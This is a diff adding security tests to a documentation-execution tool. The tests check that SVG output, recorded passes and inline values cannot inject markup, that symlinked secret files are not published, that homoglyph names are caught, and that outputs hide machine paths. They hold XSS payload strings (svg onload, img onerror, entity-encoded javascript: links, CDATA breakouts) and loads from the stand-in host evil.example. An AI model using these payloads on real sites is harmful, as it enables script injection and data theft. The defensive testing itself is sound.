@@ -10,6 +10,7 @@ tests on it; afterwards the project tree, the venv and the process table are as 
 from __future__ import annotations
 
 import hashlib
+import html as htmllib
 import json
 import os
 import re
@@ -367,6 +368,184 @@ def test_a_surrogate_fails_with_its_line():
         "# t\n\n```python\nprint('\\udcff')\n```\n\nValue `{python} '\\udcff'`.\n", PAGE))
     failed(block, "U+DCFF")
     assert not inline.ok and inline.text.startswith(f"{PAGE}:7") and "U+DCFF" in inline.text, inline.text
+
+
+# --- markup in pictures and recordings (issue 36, A) ----------------------------------------
+
+XMLNS = 'xmlns="http://www.w3.org/2000/svg"'
+PICTURES = {  # each passed the pattern check that came before the allow-list
+    "slash before an event handler": ("<svg/onload=alert(1)></svg>", "not well-formed XML"),
+    "an event handler set by <set>": (f'<svg {XMLNS}><set attributeName="onmouseover" to="alert(1)"/></svg>', "<set>"),
+    "an event handler": (f'<svg {XMLNS} onload="alert(1)"><rect width="1" height="1"/></svg>', "onload="),
+    "<img onerror> inside": (f'<svg {XMLNS}><img src="x"/onerror=alert(1)></svg>', "not well-formed XML"),
+    "<img> inside, well-formed": (f'<svg {XMLNS}><img src="x" onerror="alert(1)"/></svg>', "<img>"),
+    "entity-encoded javascript: link": (f'<svg {XMLNS}><a href="&#106;avascript:alert(1)"><text>go</text></a></svg>', "<a>"),
+    "entity-encoded javascript: href": (f'<svg {XMLNS}><use href="&#106;avascript:alert(1)"/></svg>', "href="),
+    "a third-party style sheet": (f'<svg {XMLNS}><style>@import url(https://evil.example/x.css)</style></svg>', "<style>"),
+    "a form": (f'<svg {XMLNS}><form action="https://evil.example/"><input name="q"/></form></svg>', "<form>"),
+    "<use> of another site": (f'<svg {XMLNS}><use href="https://evil.example/x.svg#a"/></svg>', "href="),
+    "xlink:href of another site": (f'<svg {XMLNS} xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://evil.example/x.svg#a"/></svg>', "href="),
+    "a style with url()": (f'<svg {XMLNS}><rect style="background:url(https://evil.example/t.png)"/></svg>', "style="),
+    "a fill with url() of another site": (f'<svg {XMLNS}><rect fill="url(https://evil.example/p.svg#g)"/></svg>', "url()"),
+    "a CSS escape": (f'<svg {XMLNS}><rect fill="\\75 rl(https://evil.example/p.svg#g)"/></svg>', "escape"),
+    "a DOCTYPE": (f'<svg {XMLNS}><!DOCTYPE svg><text>x</text></svg>', "DOCTYPE"),
+    "an entity": (f'<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg {XMLNS}><text>&x;</text></svg>', "DOCTYPE"),
+    "a comment": (f'<svg {XMLNS}><!-- a note --><text>x</text></svg>', "comment"),
+    "a CDATA section": (f'<svg {XMLNS}><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>', "CDATA"),
+    "a processing instruction": (f'<svg {XMLNS}><?xml-stylesheet href="https://evil.example/x.css"?><text>x</text></svg>', "processing instruction"),
+}
+
+
+@pytest.mark.parametrize(("printed", "refused"), PICTURES.values(), ids=PICTURES.keys())
+def test_a_picture_holds_only_drawing(printed, refused):
+    (outcome,) = run(f"print({printed!r})", result="svg")
+    failed(outcome, 'result="svg"', refused)
+
+
+@pytest.mark.parametrize(("printed", "refused"), PICTURES.values(), ids=PICTURES.keys())
+def test_a_recorded_pass_draws_only_too(printed, refused):
+    record = {"svg": printed, "steps": [{"node": "gg-0123abcd-n0", "op": "SumBackward0", "receives": "1."}], "leaves": {}}
+    (outcome,) = run(f"import json\nprint(json.dumps({record!r}))", result="backward")
+    failed(outcome, "result=", refused)
+
+
+def test_what_the_page_gets_is_the_picture_written_anew():
+    printed = (f"<svg {XMLNS} viewBox='0 0 10 10'>\n<text x='1' y='2'>&#60;b&#62; &amp; <tspan>t</tspan> tail</text>\n"
+               f"<rect fill='url(#g)' width='1' height='1'></rect>\n</svg>")
+    (outcome,) = run(f"print({printed!r})", result="svg")
+    assert outcome.ok, outcome.text
+    assert outcome.text == (f'<svg {XMLNS} viewBox="0 0 10 10">\n<text x="1" y="2">&lt;b&gt; &amp; <tspan>t</tspan> tail</text>\n'
+                            '<rect fill="url(#g)" width="1" height="1"/>\n</svg>')
+
+
+def test_a_recording_with_a_number_for_a_text_fails_with_its_line():
+    svg = f'<svg {XMLNS}><g id="gg-0123abcd-n0"><rect width="1" height="1"/></g></svg>'
+    record = {"svg": svg, "steps": [{"node": "gg-0123abcd-n0", "op": 5, "receives": "1."}], "leaves": {}}
+    (outcome,) = run(f"import json\nprint(json.dumps({record!r}))", result="backward")
+    failed(outcome, 'result="backward"', "steps[0].op", "5 is not of type 'string'")
+
+
+# --- inline values (issue 36, B) -------------------------------------------------------------
+
+VALUES = ["</code><img src=x onerror=alert(1)>", "a\n\n<script>alert(1)</script>", "``` `` `x` ```` ` ```"]
+FORGED_VALUES = f"""
+import docexec.execute.run as run
+values = iter({VALUES!r})
+run.PageRun.value = lambda self, block: next(values)  # the page process sends what it likes
+"""
+
+
+def test_the_parent_makes_an_inline_value_one_line():
+    outcomes = docexec.run_blocks(PAGE, docexec.executed_blocks(
+        f"# t\n\n```python\n{FORGED_VALUES}\n```\n\n`{{python}} 1`, `{{python}} 2` and `{{python}} 3`.\n", PAGE))
+    assert [o.ok for o in outcomes] == [True] * 4, outcomes
+    assert [o.text for o in outcomes[1:]] == [" ".join(v.split()) for v in VALUES]
+
+
+@pytest.mark.parametrize("mode", ["never", "always"])
+def test_inline_values_cannot_break_out_of_their_code(site, caplog, monkeypatch, mode):
+    monkeypatch.setenv("DOCEXEC_PLACEHOLDERS", mode)
+    page = f"# p\n\n```python\n{FORGED_VALUES}\n```\n\n`{{python}} 1` at the start, `{{python}} 2` and\n\n| a | b |\n|---|---|\n| `{{python}} 3` | z |\n"
+    site.both("index.md", "# home\n").both("p.md", page)
+    ok, log = site.build(caplog)
+    assert ok, log
+    for lang in ("", "en/"):
+        html = site.html(f"{lang}p/index.html")
+        article = html[html.index('<article'):html.index('</article>')]
+        assert "<script>alert" not in article and "<img src=x" not in article, article
+        prose = article.split("</pre>", 1)[1]  # after the block's code
+        shown = [htmllib.unescape(c) for c in re.findall(r"<code>(.*?)</code>", prose, re.S)]
+        assert shown == [" ".join(v.split()) for v in VALUES], shown
+
+
+# --- links to files outside the project (issue 36, C) --------------------------------------------
+
+
+@pytest.fixture
+def secret(tmp_path_factory):
+    """A file outside the fixture site, as a repository's .git/config or a home's key would be."""
+    path = tmp_path_factory.mktemp("outside") / "config"
+    path.write_text("[remote]\n  token = docexec-secret-token\n", "utf8")
+    return path
+
+
+def _published(site) -> list[str]:
+    return [str(p.relative_to(site.root / "site")) for p in (site.root / "site").rglob("*")
+            if p.is_file() and "docexec-secret-token" in p.read_text("utf8", errors="replace")]
+
+
+@pytest.mark.parametrize("how", ["symlink", "hard link"])
+def test_a_linked_file_in_docs_fails_the_build_and_is_not_published(site, caplog, secret, how):
+    site.both("index.md", "# home\n")
+    for lang in ("zh", "en"):
+        link = site.root / "docs" / lang / "leak.txt"
+        link.symlink_to(secret) if how == "symlink" else os.link(secret, link)
+    ok, log = site.build(caplog)
+    assert not ok, log
+    what = "a symbolic link" if how == "symlink" else "a file with 3 hard links"
+    assert f"docs/zh/leak.txt: {what}" in log and "replace the link with the file's content" in log, log
+    assert not _published(site)
+
+
+@pytest.mark.parametrize("target", ["snippets", "glossary.yml", "overrides/main.html"])
+def test_a_linked_input_of_the_build_fails_it(site, caplog, secret, target):
+    site.both("index.md", "# home\n")
+    (site.root / "overrides").mkdir()
+    path = site.root / target
+    path.symlink_to(secret.parent if target == "snippets" else secret)
+    ok, log = site.build(caplog)
+    assert not ok, log
+    assert f"{target}: a symbolic link" in log and "replace the link with the file's content" in log, log
+    assert not _published(site)
+
+
+# --- shown code is the code that runs (issue 36, D) ------------------------------------------
+
+
+def test_a_name_that_only_looks_ascii_fails_with_its_line_and_code_point():
+    block, inline, chinese = docexec.run_blocks(PAGE, docexec.executed_blocks(
+        "# t\n\n```python\nimport torch\ntоrch = type('T', (), {'ones': staticmethod(lambda n: 'tensor([9., 9.])')})\n"
+        "print(tоrch.ones(2))\n```\n\nIt is `{python} tоrch.ones(2)`.\n\n"
+        "```python\n梯度 = 1\n```\n", PAGE))
+    failed(block, "docs/zh/hostile.md:5: the name 'tоrch' holds U+043E (CYRILLIC SMALL LETTER O)")
+    assert not inline.ok and inline.text.startswith(f"{PAGE}:9: the name 'tоrch' holds U+043E"), inline.text
+    failed(chinese, "docs/zh/hostile.md:12: the name '梯度' holds U+68AF (CJK UNIFIED IDEOGRAPH-68AF)")
+
+
+def test_strings_and_comments_may_hold_any_text():
+    (outcome,) = run("s = '梯度 tоrch'  # 中文注释 tоrch\nprint(s)")
+    assert outcome.ok and outcome.text == "梯度 tоrch", outcome.text
+
+
+# --- what an output may not show (issue 36, E) ----------------------------------------------
+
+HOME_SSH = str(Path.home() / ".ssh")
+SHOWS = {
+    # named as the longest path it shows (here the home, /root, holds the interpreter; not so on every machine)
+    "the interpreter's prefix": ("import sys\nprint(sys.base_prefix)", f"a path of this machine ({sys.base_prefix})"),
+    "the interpreter's real path": ("import os, sys\nprint(os.path.realpath(sys.executable))",
+                                    f"a path of this machine ({sys.base_prefix})"),
+    "id() in decimal": ("print(id(object()))", "a memory address"),
+    "a pointer in decimal": ("print(f'object {0x7f3a5c2b1e40}')", "a memory address"),
+    "a hex-encoded path": (f"print({HOME_SSH!r}.encode().hex())", "a path of this machine"),
+    "an upper-case hex-encoded path": (f"print({HOME_SSH!r}.encode().hex().upper())", "a path of this machine"),
+}
+
+
+@pytest.mark.parametrize(("code", "what"), SHOWS.values(), ids=SHOWS.keys())
+def test_an_output_may_not_show_the_machine(code, what):
+    (outcome,) = run(code)
+    failed(outcome, what)
+
+
+def test_numbers_that_are_no_address_pass():
+    (outcome,) = run("print(2**46, 2**47, 10**15, 0.12345678901234, 1.40000000000001e14, 123456789012345678)")
+    assert outcome.ok, outcome.text
+
+
+def test_the_machine_paths_include_the_interpreter_and_real_paths():
+    paths = docexec.execute.pool.machine_paths()
+    assert {sys.base_prefix, os.path.realpath(sys.prefix), str(ROOT), os.path.realpath(ROOT)} <= paths, paths
 
 
 # --- the whole build, the doc tests, the tree ------------------------------------------------
